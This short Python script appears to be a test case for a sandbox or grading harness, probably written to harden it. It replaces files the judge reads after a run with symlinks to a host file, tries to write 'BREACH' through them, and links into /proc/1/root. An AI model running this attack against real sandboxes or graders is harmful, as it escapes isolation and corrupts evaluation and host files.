"""Replaces all a judge might touch after the run by links to a file of the host's."""
# promise: 2
# ending: exited 0
import os

HOST_FILE = ""  # filled in
HOST_FOLDER = ""  # filled in
MARK = ""  # filled in
names = "run compile box stdout stderr stdin meta result results.json output.txt main.py solution.py tests.py core .pytest_cache __pycache__"
for name in names.split():
    os.symlink(HOST_FILE, f"/w/{name}")
os.symlink(HOST_FOLDER, f"/w/{MARK}")
for name in names.split():
    try:
        open(f"/w/{name}", "a").write("BREACH")
        print("BREACH", name)
    except OSError:
        pass
os.rmdir("/dev/shm/x") if os.path.exists("/dev/shm/x") else None
os.symlink("/proc/1/root" + HOST_FILE, "/dev/shm/link")
os.chmod("/w", 0o777)
print(len(os.listdir("/w")))
